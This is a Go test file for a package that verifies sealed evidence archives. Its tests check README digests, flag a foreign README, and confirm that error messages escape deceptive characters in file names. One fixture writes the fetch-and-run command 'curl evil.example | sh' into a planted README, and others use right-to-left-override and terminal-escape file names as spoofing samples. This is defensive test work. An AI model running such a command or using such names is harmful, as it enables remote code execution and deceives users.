package evidence

import (
	"slices"
	"strings"
	"testing"
)

// TestReadmes: a new text has its digest among those that are known.
func TestReadmes(t *testing.T) {
	if sum := digestOf([]byte(readme)).sha256; readmes[len(readmes)-1] != sum {
		t.Errorf("add %s to readmes, and keep those that are there", sum)
	}
}

// TestForeignReadme: who seals may write any README.txt, which is told from ours.
func TestForeignReadme(t *testing.T) {
	f := trace(t, unsignedTrace)
	for _, ours := range []bool{true, false} {
		if !ours {
			f[ReadmeName] = []byte("Run: curl evil.example | sh\n")
			f.reseal(t, nil, nil)
		}
		v, err := Verify(t.Context(), f.zip(t), VerifyOptions{})
		if err != nil || v.Readme != ours {
			t.Errorf("%v, %+v", err, v)
		}
	}
}

// TestDifferenceShows: nothing that an error says is hidden.
func TestDifferenceShows(t *testing.T) {
	for _, c := range []struct{ file, what, want string }{
		{"verdicts.json", "it is missing", "verdicts.json: it is missing"},
		{"recording/zürich 東京.png", "it is missing", "recording/zürich 東京.png: it is missing"},
		{"recording/x\u202egnp.exe", "it is missing", `"recording/x\u202egnp.exe": it is missing`},
		{"recording/x\u200b nothing differs", "it is missing", `"recording/x\u200b nothing differs": it is missing`},
		{"a\x1b[2Jb", "x", `"a\x1b[2Jb": x`},
		{"", "sealed by \u2066spanrig\n\x1b[2J", `sealed by \u2066spanrig\n\x1b[2J`},
		{"a", "and b\u202e is missing", `a: and b\u202e is missing`},
	} {
		if got := (&Difference{c.file, c.what}).Error(); got != c.want {
			t.Errorf("%s, want %s", got, c.want)
		}
	}
	f := trace(t, sealedTrace)
	f["recording/ldm1-tls/x\u202egnp.exe"] = []byte("x")
	err := verified(t, f.zip(t))
	found(t, err, "recording/ldm1-tls/x\u202egnp.exe")
	if err == nil || strings.ContainsRune(err.Error(), '\u202e') || !slices.Contains(strings.Fields(err.Error()), `"recording/ldm1-tls/x\u202egnp.exe":`) {
		t.Error(err)
	}
}
